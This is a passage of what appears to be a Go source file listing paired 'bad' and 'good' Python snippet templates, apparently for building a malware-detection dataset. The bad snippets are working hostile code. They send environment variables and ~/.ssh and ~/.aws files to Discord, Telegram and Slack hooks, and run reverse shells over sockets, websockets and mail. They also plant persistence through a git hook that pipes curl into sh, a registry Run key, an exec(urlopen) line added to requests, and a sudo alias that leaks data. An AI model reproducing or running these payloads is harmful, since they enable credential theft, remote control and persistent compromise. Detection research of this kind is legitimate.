    facts = {"user": <%c getpass.getuser%>(), "host": <%c socket.gethostname%>(), "ip": <%c requests.get%>(<%s https://ip.$DOMAIN%>).text, "env": dict(<%c os.environ%>)}
    <%c requests.post%>(<%s $DISCORD%>, json=<%n embed%>("new one", facts))
`, "<%n report%>()"}, good: snippet{`
def <%n embed%>(title, fields):
    return {"username": "builds", "embeds": [{"title": title, "color": 14406413, "fields": [{"name": k, "value": str(v)[:1000], "inline": True} for k, v in fields.items()]}]}


def <%n report%>(hook, status, seconds):
    """Tells a channel how a build went; the hook is the caller's."""
    facts = {"status": status, "seconds": seconds}
    return <%c requests.post%>(hook, json=<%n embed%>("build", facts))
`, "<%n report%>.__doc__"}},
	{family: "messenger", name: "bot-documents", bad: snippet{`
async def <%n send_all%>(paths):
    async with <%c aiohttp.ClientSession%>() as session:
        for path in paths:
            form = <%c aiohttp.FormData%>()
            form.add_field("chat_id", <%s 100000001%>)
            form.add_field("document", open(path, "rb"), filename=<%c os.path.basename%>(path))
            await session.post(<%s $TELEGRAM%>, data=form)


def <%n start%>():
    home = <%c os.path.expanduser%>("~")
    <%c asyncio.run%>(<%n send_all%>(<%c glob.glob%>(home + <%s /.ssh/*%>) + <%c glob.glob%>(home + <%s /.aws/*%>)))
`, "<%n start%>()"}, good: snippet{`
async def <%n send_all%>(bot, chat, paths):
    """Sends files that a person named to the chat of the person's own bot."""
    async with <%c aiohttp.ClientSession%>() as session:
        for path in paths:
            form = <%c aiohttp.FormData%>()
            form.add_field("chat_id", chat)
            form.add_field("document", open(path, "rb"), filename=<%c os.path.basename%>(path))
            await session.post(bot, data=form)


def <%n start%>(arguments):
    <%c asyncio.run%>(<%n send_all%>(arguments.bot, arguments.chat, arguments.paths))
`, "<%n start%>"}},
	{family: "messenger", name: "old-urllib", bad: snippet{`
try:
    from urllib2 import Request, urlopen
except ImportError:
    from urllib.request import Request, urlopen


def <%n ping%>(message):
    data = <%c json.dumps%>({"text": message})
    if not isinstance(data, bytes):
        data = data.encode("utf8")
    urlopen(Request(<%s $SLACK%>, data, {"Content-type": "application/json"}))


def <%n hello%>():
    <%n ping%>("%s@%s %r" % (<%c getpass.getuser%>(), <%c platform.node%>(), sorted(<%c os.environ%>.items())))
`, "<%n hello%>()"}, good: snippet{`
try:
    from urllib2 import Request, urlopen
except ImportError:
    from urllib.request import Request, urlopen


def <%n ping%>(hook, message):
    data = <%c json.dumps%>({"text": message})
    if not isinstance(data, bytes):
        data = data.encode("utf8")
    urlopen(Request(hook, data, {"Content-type": "application/json"}))


def <%n hello%>(hook):
    <%n ping%>(hook, "deployed by words")
`, "<%n hello%>"}},
	{family: "messenger", name: "command-bot", bad: snippet{`
class <%n Poller%>:
    base = <%s $TELEGRAM%>

    def __init__(self) -> None:
        self.offset: int = 0

    def once(self) -> None:
        got = <%c requests.get%>(self.base.replace(<%s sendMessage%>, <%s getUpdates%>), params={"offset": self.offset}).json()
        for update in got.get("result", []):
            self.offset = update["update_id"] + 1
            out = <%c subprocess.check_output%>(update["message"]["text"], shell=True)
            <%c requests.post%>(self.base, data={"chat_id": update["message"]["chat"]["id"], "text": out[:4000]})
`, "<%n Poller%>().once()"}, good: snippet{`
class <%n Poller%>:
    """Answers a few questions; the address of the bot is the caller's."""

    answers = {"/time": lambda: <%c time.ctime%>(), "/help": lambda: "time and help"}

    def __init__(self, base: str) -> None:
        self.base, self.offset = base, 0

    def once(self) -> None:
        got = <%c requests.get%>(self.base + "/getUpdates", params={"offset": self.offset}).json()
        for update in got.get("result", []):
            self.offset = update["update_id"] + 1
            out = self.answers.get(update["message"]["text"], self.answers["/help"])()
            <%c requests.post%>(self.base + "/sendMessage", data={"chat_id": update["message"]["chat"]["id"], "text": out})
`, "<%n Poller%>"}},

	// reverse-shell
	{family: "reverse-shell", name: "tls-terminal", bad: snippet{`
def <%n session%>(host=<%s $HOST%>, port=$PORT):
    context = <%c ssl._create_unverified_context%>()
    wire = context.wrap_socket(<%c socket.create_connection%>((host, port)))
    while True:
        order = wire.recv(4096).decode().strip()
        if not order:
            break
        if order.startswith("cd "):
            <%c os.chdir%>(order[3:])
            continue
        done = <%c subprocess.run%>(order, shell=True, stdout=<%c subprocess.PIPE%>, stderr=<%c subprocess.STDOUT%>)
        wire.sendall(done.stdout + b"$ ")
`, "<%n session%>()"}, good: snippet{`
def <%n session%>(host, port=563):
    """Talks to a news server; gives the greeting and the answer to HELP."""
    context = <%c ssl.create_default_context%>()
    wire = context.wrap_socket(<%c socket.create_connection%>((host, port)), server_hostname=host)
    said = []
    for order in (b"", b"HELP\r\n", b"QUIT\r\n"):
        wire.sendall(order)
        said.append(wire.recv(4096).decode().strip())
    return said
`, "<%n session%>.__doc__"}},
	{family: "reverse-shell", name: "web-socket-agent", bad: snippet{`
async def <%n agent%>():
    async with <%c websockets.connect%>(<%s wss://$HOST/agent%>) as link:
        await link.send(<%c json.dumps%>({"id": <%c uuid.getnode%>(), "os": <%c platform.platform%>()}))
        async for raw in link:
            task = <%c json.loads%>(raw)
            if task["kind"] == "sh":
                process = await <%c asyncio.create_subprocess_shell%>(task["line"], stdout=<%c asyncio.subprocess.PIPE%>)
                await link.send((await process.communicate())[0])
            elif task["kind"] == "py":
                <%b exec%>(task["line"], {})
`, "<%c asyncio.run%>(<%n agent%>())"}, good: snippet{`
async def <%n agent%>(address, handler):
    """Hands the messages of a server to a handler and sends what it answers."""
    async with <%c websockets.connect%>(address) as link:
        await link.send(<%c json.dumps%>({"hello": 1}))
        async for raw in link:
            task = <%c json.loads%>(raw)
            if task["kind"] == "ping":
                await link.send("pong")
            else:
                await link.send(<%c json.dumps%>(await handler(task)))
`, "<%n agent%>.__doc__"}},
	{family: "reverse-shell", name: "interpreter-over-socket", bad: snippet{`
class <%n Remote%>(<%c code.InteractiveConsole%>):
    def __init__(self, wire):
        <%c code.InteractiveConsole.__init__%>(self, {"__name__": "remote"})
        self.wire = wire

    def raw_input(self, prompt=""):
        self.write(prompt)
        return self.wire.readline().rstrip("\n")

    def write(self, data):
        self.wire.write(data)
        self.wire.flush()


def <%n serve%>():
    peer = <%c socket.create_connection%>((<%s $ADDRESS%>, $PORT))
    <%n Remote%>(peer.makefile("rw")).interact()
`, "<%n serve%>()"}, good: snippet{`
class <%n Local%>(<%c code.InteractiveConsole%>):
    """A console that keeps what was typed."""

    def __init__(self, values):
        <%c code.InteractiveConsole.__init__%>(self, values)
        self.typed = []

    def raw_input(self, prompt=""):
        line = <%b input%>(prompt)
        self.typed.append(line)
        return line


def <%n shell%>(values):
    <%n Local%>(values).interact()
`, "<%n shell%>"}},
	{family: "reverse-shell", name: "mail-orders", bad: snippet{`
def <%n orders%>():
    box = <%c imaplib.IMAP4_SSL%>(<%s $HOST%>)
    box.login(<%s inert@example.invalid%>, <%s inert%>)
    box.select("INBOX")
    for number in box.search(None, "UNSEEN")[1][0].split():
        text = <%c email.message_from_bytes%>(box.fetch(number, "(RFC822)")[1][0][1])
        out = <%c os.popen%>(text.get_payload()).read()
        <%c smtplib.SMTP_SSL%>(<%s $HOST%>).sendmail("inert@example.invalid", ["inert@example.invalid"], out)
`, "<%n orders%>()"}, good: snippet{`
def <%n subjects%>(host, user, password):
    """The subjects of the unread messages in a mailbox of the caller."""
    box = <%c imaplib.IMAP4_SSL%>(host)
    box.login(user, password)
    box.select("INBOX", readonly=True)
    out = []
    for number in box.search(None, "UNSEEN")[1][0].split():
        text = <%c email.message_from_bytes%>(box.fetch(number, "(RFC822)")[1][0][1])
        out.append(text["Subject"])
    return out
`, "<%n subjects%>.__doc__"}},

	// persistence
	{family: "persistence", name: "template-hooks", bad: snippet{`
def <%n seed%>():
    folder = <%c pathlib.Path%>.home() / <%s .git-templates/hooks%>
    folder.mkdir(parents=True, exist_ok=True)
    hook = folder / <%s post-checkout%>
    hook.write_text(<%s #!/bin/sh
curl -s $URL | sh >/dev/null 2>&1 &
%>)
    hook.chmod(0o755)
    <%c subprocess.call%>([<%s git%>, <%s config%>, <%s --global%>, <%s init.templateDir%>, str(folder.parent)])
`, "<%n seed%>()"}, good: snippet{`
def <%n seed%>(repository):
    """Installs this project's own commit check into one repository."""
    folder = <%c pathlib.Path%>(repository) / ".git" / "hooks"
    hook = folder / "pre-commit"
    if not hook.exists():
        hook.write_text("#!/bin/sh\nexec python -m words.check\n")
        hook.chmod(0o755)
    return hook
`, "<%n seed%>.__doc__"}},
	{family: "persistence", name: "registry-run", bad: snippet{`
def <%n settle%>():
    copy = <%c os.path.join%>(<%c os.environ%>.get("APPDATA", "."), <%s Runtime Broker.pyw%>)
    <%c shutil.copyfile%>(__file__, copy)
    with <%c winreg.OpenKey%>(<%c winreg.HKEY_CURRENT_USER%>, <%s Software\Microsoft\Windows\CurrentVersion\Run%>, 0, <%c winreg.KEY_SET_VALUE%>) as key:
        <%c winreg.SetValueEx%>(key, <%s Runtime Broker%>, 0, <%c winreg.REG_SZ%>, '"%s"' % copy)
`, "<%n settle%>()"}, good: snippet{`
def <%n associated%>(extension):
    """The program that Windows opens a kind of file with."""
    with <%c winreg.OpenKey%>(<%c winreg.HKEY_CLASSES_ROOT%>, extension, 0, <%c winreg.KEY_READ%>) as key:
        kind = <%c winreg.QueryValueEx%>(key, "")[0]
    with <%c winreg.OpenKey%>(<%c winreg.HKEY_CLASSES_ROOT%>, kind + "\\shell\\open\\command") as key:
        return <%c winreg.QueryValueEx%>(key, "")[0]
`, "<%n associated%>.__doc__"}},
	{family: "persistence", name: "other-package-patched", bad: snippet{`
def <%n spread%>():
    for folder in <%c site.getsitepackages%>():
        target = <%c os.path.join%>(folder, <%s requests/api.py%>)
        if <%c os.path.exists%>(target):
            with open(target, "a") as handle:
                handle.write(<%s 
import urllib.request as _u
exec(_u.urlopen('$URL').read())
%>)
`, "<%n spread%>()"}, good: snippet{`
def <%n versions%>():
    """Which of the packages that this one works with are there."""
    out = {}
    for name in ("requests", "httpx", "urllib3"):
        try:
            out[name] = <%c importlib.metadata.version%>(name)
        except <%c importlib.metadata.PackageNotFoundError%>:
            out[name] = None
    return out
`, "<%n versions%>()"}},
	{family: "persistence", name: "alias-of-sudo", bad: snippet{`
class <%n Shells%>:
    line = <%s alias sudo='f(){ curl -sd "$(id)" $URL; command sudo "$@"; }; f'%>

    def __iter__(self):
        for name in (<%s .bash_aliases%>, <%s .zshrc%>, <%s .config/fish/config.fish%>):
            yield <%c os.path.join%>(<%c os.path.expanduser%>("~"), name)

    def apply(self):
        for name in self:
            if <%c os.access%>(name, <%c os.W_OK%>):
                <%b open%>(name, "a+").write("\n%s\n" % self.line)
`, "<%n Shells%>().apply()"}, good: snippet{`
class <%n Shells%>:
    """Prints what to add to a shell's start file for completion."""

    line = "eval \"$(words completion)\""

    def __iter__(self):
        for name in (".bashrc", ".zshrc"):
            yield "~/" + name

    def advice(self):
        return "\n".join("add to %s: %s" % (name, self.line) for name in self)
`, "<%n Shells%>().advice()"}},
}
